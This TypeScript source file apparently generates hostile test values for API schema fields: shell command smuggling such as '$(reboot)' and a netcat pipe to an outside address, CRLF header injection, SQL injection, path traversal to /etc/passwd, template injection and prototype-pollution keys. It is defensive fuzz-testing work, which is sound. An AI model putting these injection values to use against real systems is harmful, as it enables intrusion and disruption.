import type { JsonSchema } from './api-document.ts';

/** A value that somebody who means harm puts into a field. */
export interface HostileValue {
  value: unknown;
  /** Whether the schema lets it through: then it must do no harm. Otherwise it must be refused. */
  fits: boolean;
}

const kinds: Readonly<Record<string, unknown>> = {
  null: null,
  boolean: true,
  integer: 7,
  number: 1.5,
  string: 'text',
  array: ['text'],
  object: { name: 'text' },
};

/** No field but a free text lets these through: they would be lines, words or headers of their own somewhere. */
const breaking = [
  'web\n\tserver evil 192.0.2.66:80',
  'web\r\nset-cookie: evil=1',
  'web\u0000',
  'web\u2028evil',
  'web\u001b[2J',
  '\ud800',
  'x'.repeat(20_000),
];

/** What shells, HAProxy, paths, SQL, templates and JavaScript take for something else. */
const meaning = [
  '$(reboot)',
  '`reboot`',
  '; reboot',
  '| nc 192.0.2.66 1',
  '"',
  "' OR '1'='1",
  '\\',
  '#',
  '${HOME}',
  '%[env(HOME)]',
  '%s%n',
  '../../../etc/passwd',
  '/../../etc/passwd',
  '{{7*7}}',
  '-j ACCEPT',
  '__proto__',
  'constructor',
  'e\u0301',
  '\u202egnp.exe',
  '',
];

const fitsKind = (schema: JsonSchema, kind: string): boolean => {
  const alternatives = [...(schema.oneOf ?? []), ...(schema.anyOf ?? [])];
  if (alternatives.length > 0) return alternatives.some((each) => fitsKind(each, kind));
  if (schema.enum) return schema.enum.some((value) => value === kinds[kind]);
  const types = [schema.type].flat();
  return types.includes(kind) || (kind === 'integer' && types.includes('number'));
};

const isFree = ({ type, pattern, format, enum: values }: JsonSchema): boolean =>
  type === 'string' && pattern === undefined && format === undefined && values === undefined;

/** Whether a text that breaks nothing fits. */
const fitsText = (schema: JsonSchema, value: string): boolean =>
  isFree(schema) || (schema.pattern !== undefined && new RegExp(schema.pattern).test(value));

/** What is put into a field of this schema. */
export function hostileValues(schema: JsonSchema): HostileValue[] {
  const wrong = Object.entries(kinds)
    .filter(([kind]) => !fitsKind(schema, kind))
    .map(([, value]) => ({ value, fits: false }));
  if (fitsKind(schema, 'string')) {
    const isUnion = schema.anyOf !== undefined;
    return [
      ...wrong,
      ...breaking.map((value) => ({ value, fits: isFree(schema) })),
      ...(isUnion ? [] : meaning).map((value) => ({ value, fits: fitsText(schema, value) })),
    ];
  }
  const { minimum, maximum, maxItems, type } = schema;
  const numbers = type === 'integer' ? [(minimum ?? 0) - 1, (maximum ?? 2 ** 53) + 1, -1e308, 0.1] : [];
  const lists = maxItems === undefined ? [] : [Array.from({ length: maxItems + 1 }, () => 0)];
  return [
    ...wrong,
    ...[...numbers, ...lists, ...(schema.enum ? meaning : [])].map((value) => ({ value, fits: false })),
  ];
}
